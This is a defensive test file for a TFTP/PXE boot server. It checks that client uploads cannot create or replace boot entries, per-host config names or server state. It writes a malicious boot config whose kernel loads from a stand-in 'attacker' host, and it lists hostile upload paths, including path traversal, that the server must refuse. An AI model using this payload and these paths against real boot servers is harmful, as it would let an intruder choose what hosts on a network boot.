/**
 * Uploads never change what another host boots: on a tree `init` made (whose pxelinux.cfg/,
 * grub/, ipxe/ and .pxeboot/ belong to the serving user, so install-once can switch hosts),
 * served with --create and nothing else, by Debian's `--secure --create` defaults file, as
 * in.tftpd -s -c, and with --overwrite --writable of the root, no client nobody here wrote
 * (tftp-hpa, curl, atftp, busybox) nor a raw WRQ can create, replace or link a boot entry, a
 * per-host name anywhere, or the state. Each refusal is ERROR 2 and the tree is left exactly
 * as it was, temporary files included. A sysadmin who names a boot-control directory in
 * --writable opens it, and the start-up log warns what that allows.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
import { chownSync, lstatSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { serviceIdentity } from "../../src/daemon/privileges.ts";
import { decodePacket, encodeRequest } from "../../src/protocol/packet.ts";
import { Opcode } from "../../src/protocol/types.ts";
import { BINARY, pxeboot, RawPeer, run, scratchRoot, startServer, startWith, type ServerProcess } from "./harness.ts";

/** Who the server runs as when started as root: init gives it the boot-control directories. */
const serverUser = serviceIdentity(undefined, undefined, process.getuid?.() ?? -1).drop;
const running: ServerProcess[] = [];
const trees: { cleanup(): void }[] = [];
const local = scratchRoot("fence-local");
const evil = join(local.root, "evil.cfg");

beforeAll(() => writeFileSync(evil, "DEFAULT evil\nLABEL evil\n  KERNEL http://attacker/vmlinuz\n"));
afterEach(async () => {
  for (const s of running.splice(0)) await s.stop();
  for (const t of trees.splice(0)) t.cleanup();
});
afterAll(() => local.cleanup());

/** An init tree with one host on a netboot profile and an upload directory the server may write. */
async function initTree(name: string): Promise<string> {
  const t = scratchRoot(name);
  trees.push(t);
  await pxeboot("init", t.root, "--profile", "7.2");
  await pxeboot("host", "add", "127.0.0.11", "7.2", "--root", t.root);
  mkdirSync(join(t.root, "uploads"));
  if (serverUser) chownSync(join(t.root, "uploads"), serverUser.uid, serverUser.gid);
  return t.root;
}

async function serve(root: string, extra: string[]): Promise<ServerProcess> {
  const s = await startServer(root, extra);
  running.push(s);
  return s;
}

/** Every entry under `root` with its type, size, inode and mtime: any write shows as a difference. */
function snapshot(root: string, rel = ""): string[] {
  return readdirSync(join(root, rel)).flatMap((n) => {
    const r = rel ? `${rel}/${n}` : n;
    const st = lstatSync(join(root, r));
    const line = `${r} ${st.mode.toString(8)} ${st.size} ${st.ino} ${st.mtimeMs}`;
    return st.isDirectory() ? [line, ...snapshot(root, r)] : [line];
  });
}

/** A host's boot entries and the state, as any client could ask to write them. */
const ATTACKS = [
  "pxelinux.cfg/01-aa-bb-cc-dd-ee-ff",
  "ipxe/mac-aa-bb-cc-dd-ee-ff.ipxe",
  "grub/ip-10.0.0.5.cfg",
  "grub/mac-aa:bb:cc:dd:ee:ff.cfg",
  "grub/grub.cfg-01-aa-bb-cc-dd-ee-ff",
  "pxelinux.cfg/C0A8000B",
  "pxelinux.cfg/7F00000C",
  "pxelinux.cfg/7F",
  "pxelinux.cfg/4c4c4544-0042-3510-8051-b4c04f4a4d32",
  "pxelinux.cfg/default",
  "pxelinux.cfg/default.netboot-7.2",
  "pxelinux.cfg/default.netboot-evil",
  "ipxe/netboot-7.2.ipxe",
  "grub/grub.cfg",
  "/pxelinux.cfg/01-aa-bb-cc-dd-ee-f0",
  "./ipxe//mac-aa-bb-cc-dd-ee-f1.ipxe",
  "\\pxelinux.cfg\\01-aa-bb-cc-dd-ee-f2",
  "uploads/../pxelinux.cfg/01-aa-bb-cc-dd-ee-f3",
  "uploads/01-aa-bb-cc-dd-ee-ff",
  "uploads/grub.cfg-01-aa-bb-cc-dd-ee-ff",
  "uploads/aa-bb-cc-dd-ee-ff.ipxe",
  "uploads/bootx64.efi",
  ".pxeboot/macs/127.0.0.99",
  ".pxeboot/installed/7F00000C",
  ".pxeboot/locks/7F00000C",
];

/** The ERROR a raw WRQ for `name` draws ("none" if unanswered, "ack" if accepted). */
async function wrq(port: number, name: string): Promise<number | string> {
  const peer = await RawPeer.open();
  try {
    peer.send(encodeRequest(Opcode.WRQ, name, "octet"), port);
    const d = await peer.recv(3000);
    if (!d) return "none";
    const p = decodePacket(d.data);
    return p.op === Opcode.ERROR ? p.code : p.op === Opcode.ACK ? "ack" : `op ${p.op}`;
  } finally {
    peer.close();
  }
}

/** The four clients nobody here wrote, each putting `evil` at `remote`; what each printed or returned. */
async function realClientPuts(port: number, remote: string): Promise<Record<string, string>> {
  const p = String(port);
  const hpa = await run(["tftp", "-m", "binary", "127.0.0.1", p, "-c", "put", evil, remote], 30_000);
  const curl = await run(["curl", "-sS", "-T", evil, `tftp://127.0.0.1:${p}/${remote}`], 30_000);
  const atftp = await run(["atftp", "--put", "-l", evil, "-r", remote, "127.0.0.1", p], 30_000);
  const bb = await run(["busybox", "tftp", "-p", "-l", evil, "-r", remote, "127.0.0.1", p], 30_000);
  return {
    "tftp-hpa": hpa.stdout + hpa.stderr,
    curl: `exit ${curl.code} ${curl.stderr}`,
    atftp: `exit ${atftp.code} ${atftp.stdout}${atftp.stderr}`,
    busybox: `exit ${bb.code} ${bb.stderr}`,
  };
}

async function expectFenced(s: ServerProcess, root: string): Promise<void> {
  const before = snapshot(root);
  for (const remote of ["pxelinux.cfg/01-aa-bb-cc-dd-ee-ff", "ipxe/mac-aa-bb-cc-dd-ee-ff.ipxe", "grub/ip-10.0.0.5.cfg"]) {
    const out = await realClientPuts(s.port, remote);
    expect(out["tftp-hpa"]).toContain("Error code 2");
    expect(out.curl).not.toStartWith("exit 0");
    expect(out.atftp).not.toStartWith("exit 0");
    expect(out.busybox).not.toStartWith("exit 0");
  }
  for (const name of ATTACKS) expect([name, await wrq(s.port, name)]).toEqual([name, 2]);
  expect(snapshot(root)).toEqual(before);
  await s.waitForLog(/upload failed .*file=pxelinux\.cfg\/01-aa-bb-cc-dd-ee-ff .*code=2 reason=".*is boot control \(in pxelinux\.cfg\/\)/);
}

describe("uploads never write boot control", () => {
  test("init tree, serve --create: every client refused, nothing written; other uploads still land", async () => {
    const root = await initTree("fence-create");
    const s = await serve(root, ["--create"]);
    await expectFenced(s, root);
    await s.waitForLog(/uploads accepted into="anywhere in the root" overwrite=false never="pxelinux\.cfg\/ grub\/ ipxe\/ \.pxeboot\/, per-host config names/);
    const ok = await run(["tftp", "-m", "binary", "127.0.0.1", String(s.port), "-c", "put", evil, "uploads/host1.dump"]);
    expect(ok.stdout + ok.stderr).toBe("");
    expect(lstatSync(join(root, "uploads/host1.dump")).isFile()).toBe(true);
  }, 120_000);

  test("--overwrite --writable of the root changes nothing of that", async () => {
    const root = await initTree("fence-overwrite");
    const s = await serve(root, ["--create", "--overwrite", "--writable", root]);
    await expectFenced(s, root);
  }, 120_000);

  test("Debian's defaults file (--secure --create), and in.tftpd -s -c", async () => {
    const root = await initTree("fence-debian");
    const s = await startWith((port) => {
      const file = join(local.root, `tftpd-hpa-${port}`);
      writeFileSync(file, [`TFTP_DIRECTORY="${root}"`, `TFTP_ADDRESS="127.0.0.1:${port}"`, 'TFTP_OPTIONS="--secure --create"'].join("\n"));
      return [BINARY, "serve", "--drain-timeout", "1", "--defaults-file", file];
    });
    running.push(s);
    await expectFenced(s, root);
    await s.stop();
    const inTftpd = await startWith((port) => [BINARY, "in.tftpd", "--listen", `--address=127.0.0.1:${port}`, "-s", "-c", root]);
    running.push(inTftpd);
    await expectFenced(inTftpd, root);
  }, 180_000);

  test("a boot-control directory named in --writable is opened, with a warning saying so; the rest stays fenced", async () => {
    const root = await initTree("fence-opened");
    // The fence opened is only half of it: boot control is not the serving user's, so the
    // sysadmin who really wants uploads there gives it that directory too.
    if (serverUser) chownSync(join(root, "pxelinux.cfg"), serverUser.uid, serverUser.gid);
    const s = await serve(root, ["--create", "--writable", "pxelinux.cfg", "--writable", "uploads"]);
    await s.waitForLog(/\[warn\].*--writable pxelinux\.cfg is boot control \(in pxelinux\.cfg\/\): any client may upload boot entries there, and so choose what hosts boot/);
    expect(await wrq(s.port, "pxelinux.cfg/01-aa-bb-cc-dd-ee-ff")).toBe("ack");
    for (const name of ["grub/ip-10.0.0.5.cfg", "ipxe/mac-aa-bb-cc-dd-ee-ff.ipxe", "uploads/01-aa-bb-cc-dd-ee-ff", ".pxeboot/macs/127.0.0.99"])
      expect([name, await wrq(s.port, name)]).toEqual([name, 2]);
  }, 60_000);
});
